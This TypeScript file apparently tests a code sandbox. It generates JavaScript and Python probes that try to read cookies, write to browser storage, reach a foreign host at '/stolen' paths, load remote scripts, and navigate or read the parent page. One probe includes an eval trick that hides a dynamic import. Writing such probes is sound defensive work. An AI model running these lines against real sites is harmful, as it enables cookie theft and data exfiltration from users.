/** One thing that shared code may try. Each prints `open NAME` when it succeeds and `shut NAME` when it does not. */
const attempts: Readonly<Record<string, string>> = {
  cookie: 'return String(document.cookie)',
  'local-storage': "localStorage.setItem('taken', '1'); return 'written'",
  'indexed-db': "await new Promise((yes, no) => { const asked = indexedDB.open('taken'); asked.onsuccess = yes; asked.onerror = () => no(asked.error) }); return 'opened'",
  api: "const answer = await fetch(ORIGIN + '/api/v1/host'); return String(answer.status)",
  'foreign-host': "const answer = await fetch(FOREIGN + '/stolen?by=fetch', { mode: 'no-cors' }); return answer.type",
  xhr: "await new Promise((yes, no) => { const asked = new XMLHttpRequest(); asked.open('GET', FOREIGN + '/stolen?by=xhr'); asked.onload = yes; asked.onerror = no; asked.send() }); return 'answered'",
  'web-socket': "await new Promise((yes, no) => { const line = new WebSocket(FOREIGN.replace('http', 'ws')); line.onopen = yes; line.onerror = no; setTimeout(no, 2000) }); return 'opened'",
  'import-scripts': "importScripts(FOREIGN + '/stolen.js?by=import'); return 'imported'",
  'dynamic-import': "await import(FOREIGN + '/stolen.js?by=module'); return 'imported'",
  'parent-dom': "return String(parent.document.title)",
  'top-navigation': "top.location.href = FOREIGN + '/stolen?by=navigation'; return 'navigated'",
  'shared-worker': "new SharedWorker('data:text/javascript,1'); return 'started'",
  'cache-storage': "await caches.open('taken'); return 'opened'",
  'service-worker': "await navigator.serviceWorker.register(ORIGIN + '/assets/x.js'); return 'registered'",
}

/** The names of everything that is tried. */
export const attackNames = Object.keys(attempts)

const scriptOf = (origin: string, foreign: string): string => `
const ORIGIN = ${JSON.stringify(origin)}, FOREIGN = ${JSON.stringify(foreign)}
const attempts = {
${Object.entries(attempts).map(([name, body]) => `  ${JSON.stringify(name)}: async () => { ${body} },`).join('\n')}
}
for (const [name, attempt] of Object.entries(attempts)) {
  const given = await Promise.race([attempt().then(what => 'open ' + name + ' ' + what, () => 'shut ' + name), new Promise(after => setTimeout(() => after('shut ' + name), 2500))])
  say(given)
}
`

/** The attacks as JavaScript to be run in a room. */
export const javascriptAttacks = (origin: string, foreign: string): string => `const say = text => console.log(text)\n${scriptOf(origin, foreign).replaceAll('import(FOREIGN', '(0, eval)("u => import(u)")(FOREIGN')}`

/** The same from Python, through the way that its runtime has to JavaScript. */
export const pythonAttacks = (origin: string, foreign: string): string => {
  const cases = Object.entries(attempts).map(([name, body]) => [name, body.replaceAll('ORIGIN', JSON.stringify(origin)).replaceAll('FOREIGN', JSON.stringify(foreign))])
  return `
import js, socket, urllib.request
for name, body in ${JSON.stringify(cases)}:
    try:
        js.eval("(async () => {" + body + "})()")
        print("open", name)
    except BaseException as error:
        print("shut", name)
${pythonOwn(origin, foreign)}
`
}

/** What Python reaches for without evaluating anything. */
const pythonOwn = (origin: string, foreign: string): string => [
  ['cookie', 'js.document.cookie'],
  ['local-storage', 'js.localStorage.setItem("taken", "1")'],
  ['indexed-db', 'js.indexedDB.open("taken").readyState'],
  ['api', `urllib.request.urlopen("${origin}/api/v1/host", timeout=2).read()`],
  ['foreign-host', `urllib.request.urlopen("${foreign}/stolen?by=python", timeout=2).read()`],
  ['xhr', `(lambda asked: (asked.open("GET", "${foreign}/stolen?by=sync", False), asked.send()))(js.XMLHttpRequest.new())`],
  ['web-socket', `socket.create_connection(("127.0.0.1", ${new URL(foreign).port}), timeout=2).send(b"GET / HTTP/1.0\\r\\n\\r\\n") and None`],
  ['import-scripts', `js.importScripts("${foreign}/stolen.js?by=python")`],
  ['parent-dom', 'js.parent.document.title'],
  ['top-navigation', `setattr(js.top.location, "href", "${foreign}/stolen?by=python")`],
].map(([name, line]) => `try:\n    ${line}\n    print("open own-${name}")\nexcept BaseException as error:\n    print("shut own-${name}")`).join('\n')
